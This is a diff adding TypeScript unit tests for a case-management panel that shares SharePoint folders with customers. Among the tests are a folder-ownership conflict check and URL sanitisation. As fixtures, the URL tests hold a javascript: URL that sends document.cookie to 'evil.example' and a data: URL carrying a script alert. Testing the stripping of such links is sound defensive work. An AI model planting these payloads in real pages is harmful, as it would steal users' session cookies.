@@ -57,6 +57,32 @@ describe("requestFiles", () => {
     expect(crm.exchanges.size).toBe(1);
   });
 
+  it("refuses a folder that is already there when another case's exchange records it, and invites nobody", async () => {
+    const crm = new FakeCrm();
+    const lib = new FakeLibrary([]);
+    const existing = await lib.ensureFolder("External Data Transfer/CAS-01234-A1B2C3");
+    crm.caseNumbers.set("c2", "CAS-01234-A1B2C3\u200b");
+    crm.exchanges.set(
+      "x-other",
+      backupExchange({
+        id: "x-other",
+        caseId: "c2",
+        direction: ExchangeDirection.filesFromCustomer,
+        stage: ExchangeStage.filesReceived,
+        folderPath: existing.path,
+        itemId: existing.itemId,
+      }),
+    );
+    await expect(requestFiles(ports(crm, lib), { caseRecord, request, actor: agent })).rejects.toMatchObject({
+      name: "ValidationError",
+      code: "folderHeldByAnotherCase",
+      message: expect.stringContaining("exchange of case"),
+    });
+    expect(lib.invites).toEqual([]);
+    expect(crm.calls).toEqual(["exchangesRecordingFolder"]);
+    expect(lib.folders.has(existing.path)).toBe(true);
+  });
+
   it("refuses a case number that is not a valid folder name", async () => {
     const p = requestFiles(ports(new FakeCrm(), new FakeLibrary([])), {
       caseRecord: { ...caseRecord, number: "CAS/../x" },
@@ -100,15 +126,37 @@ function model(over: Partial<Parameters<typeof casePanelView>[0]> = {}) {
 }
 
 describe("casePanelView", () => {
+  it("offers no link, and no Copy link, for a web URL that is not the SharePoint site's", () => {
+    const evil = backupExchange({ webUrl: "javascript:fetch('https://evil.example/'+document.cookie)" });
+    const v = casePanelView(model({ exchanges: [exchangeRecord(evil)] }), agent, NOW, settings);
+    expect(v.exchanges[0].webUrl).toBeUndefined();
+    expect(v.exchanges[0].actions).not.toContain("copyLink");
+  });
+
+  it("falls back to the folder's address SharePoint reported when the row's is not a link", () => {
+    const evil = backupExchange({ webUrl: "data:text/html,<script>alert(1)</script>" });
+    const v = casePanelView(
+      model({
+        exchanges: [exchangeRecord(evil)],
+        folders: new Map([[folder.path, { path: folder.path, folder, files: [], permissions: [] }]]),
+      }),
+      agent,
+      NOW,
+      settings,
+    );
+    expect(v.exchanges[0].webUrl).toBe(folder.webUrl);
+    expect(v.exchanges[0].actions).toContain("copyLink");
+  });
+
   it("offers Share with customer, Copy link and Remove now on a ready backup to an agent, and Request files", () => {
-    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), agent, NOW, 3);
+    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), agent, NOW, settings);
     expect(v.exchanges[0].actions).toEqual(["shareWithCustomer", "copyLink", "removeNow"]);
     expect(v.canRequestFiles).toBe(true);
     expect(v.recipient).toEqual({ kind: "contact", email: "ana@clinic.example", name: "Ana Berg" });
   });
 
   it("offers nothing to a supervisor", () => {
-    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), supervisor, NOW, 3);
+    const v = casePanelView(model({ exchanges: [exchangeRecord(backupExchange())] }), supervisor, NOW, settings);
     expect(v.exchanges[0].actions).toEqual([]);
     expect(v.canRequestFiles).toBe(false);
   });
@@ -121,7 +169,7 @@ describe("casePanelView", () => {
       }),
       agent,
       NOW,
-      3,
+      settings,
     );
     expect(v.inactive).toBe(true);
     expect(v.exchanges[0].actions).toEqual(["copyLink", "revokeAccess", "removeNow"]);
@@ -141,7 +189,7 @@ describe("casePanelView", () => {
       }),
       agent,
       NOW,
-      3,
+      settings,
     );
     expect(v.exchanges[0].contactChanges.map((c) => [c.oldEmail, c.newEmail])).toEqual([
       ["ana@clinic.example", "ana.berg@newclinic.example"],
@@ -178,7 +226,7 @@ describe("casePanelView", () => {
       model({ exchanges: [exchangeRecord(x, [recipient()], { receipts })], folders: new Map([[x.folderPath, snapshot]]) }),
       agent,
       NOW,
-      3,
+      settings,
     );
     expect(v.exchanges[0].files.map((f) => [f.path, f.integrity, f.uploadedBy])).toEqual([
       ["a.docx", "modifiedBySharePoint", "Sam"],
@@ -191,7 +239,7 @@ describe("casePanelView", () => {
   });
 
   it("says when there is no backup yet and when the contact has no e-mail", () => {
-    const v = casePanelView(model({ case: { ...caseRecord, contact: { id: "k1", name: "Ana Berg", email: null } } }), agent, NOW, 3);
+    const v = casePanelView(model({ case: { ...caseRecord, contact: { id: "k1", name: "Ana Berg", email: null } } }), agent, NOW, settings);
     expect(v.noBackup).toBe(true);
     expect(v.recipient).toEqual({ kind: "noEmail", name: "Ana Berg" });
   });
